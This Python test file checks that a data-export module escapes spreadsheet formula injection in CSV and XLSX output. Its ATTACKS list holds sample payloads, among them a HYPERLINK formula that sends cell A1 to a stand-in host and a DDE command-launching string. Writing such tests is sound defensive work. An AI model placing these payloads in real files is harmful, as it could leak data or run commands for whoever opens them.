"""Spreadsheet cells: delivered text never becomes a live formula in CSV or XLSX files (no Spark)."""

from __future__ import annotations

import csv
from datetime import datetime
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from lakehub.quality_rules.spreadsheet import csv_cell, is_formula_like, xlsx_row

ATTACKS = ['=HYPERLINK("http://x/?"&A1,"点击")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1", "\r=1"]
PLAIN = ["-9999", "+86", "1.5e3", "-0.5", "张伟", "360404********123X", "a=b", ""]


@pytest.mark.parametrize("text", ATTACKS)
def test_formula_like_text_is_neutralised_in_csv(text: str) -> None:
    assert is_formula_like(text) and csv_cell(text) == "'" + text


@pytest.mark.parametrize("text", PLAIN)
def test_numbers_and_ordinary_text_are_written_unchanged(text: str) -> None:
    assert not is_formula_like(text) and csv_cell(text) == text


def test_csv_cell_renders_none_dates_and_numbers() -> None:
    assert csv_cell(None) == "" and csv_cell(-5) == "-5" and csv_cell(2.5) == "2.5"
    assert csv_cell(datetime(2026, 11, 27, 8, 30)) == "2026-11-27T08:30:00"


def test_csv_round_trip_keeps_the_visible_text(tmp_path: Path) -> None:
    path = tmp_path / "x.csv"
    with path.open("w", encoding="utf-8-sig", newline="") as handle:
        csv.writer(handle).writerow([csv_cell(v) for v in ATTACKS])
    with path.open(encoding="utf-8-sig", newline="") as handle:
        (row,) = list(csv.reader(handle))
    assert row == ["'" + text for text in ATTACKS]


@pytest.mark.parametrize("write_only", [False, True])
def test_xlsx_cells_are_text_never_formulas(tmp_path: Path, write_only: bool) -> None:
    book = Workbook(write_only=write_only)
    sheet = book.create_sheet("s") if write_only else book.active
    assert sheet is not None
    values = [*ATTACKS, "bad\x01control", -9999, None]
    sheet.append(xlsx_row(sheet, values))
    path = tmp_path / "x.xlsx"
    book.save(path)
    loaded = load_workbook(path)
    read = loaded["s"] if write_only else loaded.active
    assert read is not None
    (cells,) = list(read.iter_rows())
    assert [c.value for c in cells[: len(ATTACKS)]] == [
        t.replace("\r", "\n") for t in ATTACKS
    ]  # XML line ends
    assert all(c.data_type == "s" for c in cells[: len(ATTACKS)]), "stored as text, not as formulas"
    assert cells[len(ATTACKS)].value == "badcontrol" and cells[len(ATTACKS) + 1].value == -9999
